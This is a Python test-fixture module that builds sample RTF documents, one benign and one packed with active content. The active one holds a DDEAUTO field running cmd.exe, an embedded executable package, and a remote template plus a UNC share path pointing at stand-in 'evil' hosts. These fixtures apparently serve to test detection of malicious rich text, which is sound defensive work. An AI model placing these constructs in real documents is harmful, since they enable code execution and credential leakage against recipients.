"""Rich texts for tests."""

from __future__ import annotations

from binascii import hexlify

PREVIEW = rb"{\pict\wmetafile8 010009000003}"


def document(body: bytes) -> bytes:
    """A rich text around `body`."""
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Times;}} Dear reader\par " + body + b"}"


def embedded(name: bytes = b"Package", data: bytes = b"MZ program") -> bytes:
    """An embedded object with its preview."""
    shown = hexlify(data)
    return (
        rb"{\object\objemb\objw1{\*\objclass " + name + rb"}{\*\objdata " + shown + rb"}"
        rb"{\result{\pard shown " + PREVIEW + rb"}}}"
    )


def field(instruction: bytes, result: bytes = b"last result") -> bytes:
    """A field."""
    return rb"{\field{\*\fldinst{" + instruction + rb"}}{\fldrslt{" + result + rb"}}}"


def acting() -> bytes:
    """Everything that rich text can carry."""
    return document(
        embedded()
        + field(rb"DDEAUTO c:\\windows\\cmd.exe /k calc")
        + field(rb'INCLUDEPICTURE "http://track.example/p.png"')
        + rb"{\*\template http://evil.example/t.dotm}"
        + rb"{\*\mailmerge{\mmconnectstr DSN=x}}"
        + rb"{\shp{\sp{\sn pibName}{\sv \\\\evil\\share\\p.png}}}"
        + rb"\objupdate tail"
    )


def quiet() -> bytes:
    """A text with a picture, a page number and a web link."""
    return document(PREVIEW + field(b" PAGE ", b"1") + field(rb'HYPERLINK "https://example.org/"'))
